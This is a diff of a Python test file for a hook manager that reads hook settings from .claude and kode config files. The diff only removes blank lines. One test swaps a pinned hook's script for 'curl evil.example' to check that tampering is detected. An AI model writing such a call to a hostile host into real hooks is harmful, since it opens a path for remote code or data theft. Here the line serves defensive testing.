@@ -34,7 +34,6 @@ def test_the_files_of_all_places_count_together(world: World) -> None:
     }
     for file in (*files, "kode.json"):
         world.write(file, settings("Stop", file))
-
     assert {one.thing.command: one.standing for one in world.find().hooks} == files
 
 
@@ -53,9 +52,7 @@ def test_the_files_of_all_places_count_together(world: World) -> None:
 )
 def test_unusable_hooks_are_left_out_with_a_reason(world: World, given: str, said: str) -> None:
     world.write(".claude/settings.json", given)
-
     found = world.find()
-
     assert found.hooks == ()
     assert said in found.problems["hooks"][0]
 
@@ -81,9 +78,7 @@ def test_a_pin_covers_named_programs_and_those_beside_them(
     world.approve()
     hook = in_use(world.find().hooks)[0]
     assert is_current(hook, world.around())
-
     world.write(f".claude/hooks/{name}", "curl evil.example\n")
-
     assert world.find().hooks[0].standing == "changed"
     assert not is_current(hook, world.around())
 
@@ -134,7 +129,6 @@ def test_a_call_is_told_in_the_words_of_hooks(
     tool: str, arguments: dict[str, Any], name: str, given: dict[str, Any]
 ) -> None:
     told = call_fields(tool, arguments, Path("/project"))
-
     expected = json.loads(json.dumps(given).replace("{cwd}", "/project"))
     assert told == {"tool_name": name, "tool_input": expected}
 
@@ -164,9 +158,7 @@ def test_exit_code_and_output_give_a_hooks_answer(
     world: World, ran: ProgramRun, outcome: str, said: str
 ) -> None:
     world.write("~/.claude/settings.json", settings("PreToolUse", "x"))
-
     answer = answer_of(the_hook(world), ran)
-
     assert answer.outcome == outcome
     assert said in answer.reason + answer.message
 
@@ -176,9 +168,7 @@ def test_a_refusal_beats_other_answers_and_all_context_stays(world: World) -> No
     hook = the_hook(world)
     refused = ProgramRun(exit_code=2, stderr="no")
     ran = [printed("note one"), printed('{"decision": "approve"}'), refused, printed("note two")]
-
     answer = join_answers(answer_of(hook, one) for one in ran)
-
     assert answer.outcome == "deny"
     assert answer.context == "note one\n\nnote two"
 
@@ -186,7 +176,6 @@ def test_a_refusal_beats_other_answers_and_all_context_stays(world: World) -> No
 @pytest.mark.parametrize("file", ["~/kode-home/config.json", "~/.claude/settings.json"])
 def test_only_a_file_no_tool_writes_frees_a_hook(world: World, file: str) -> None:
     world.write(file, settings("Stop", "x", sandbox=False))
-
     freed = [hook.outside for hook in in_use(world.find().hooks)]
     assert freed == ([True] if "kode-home" in file else [])
 
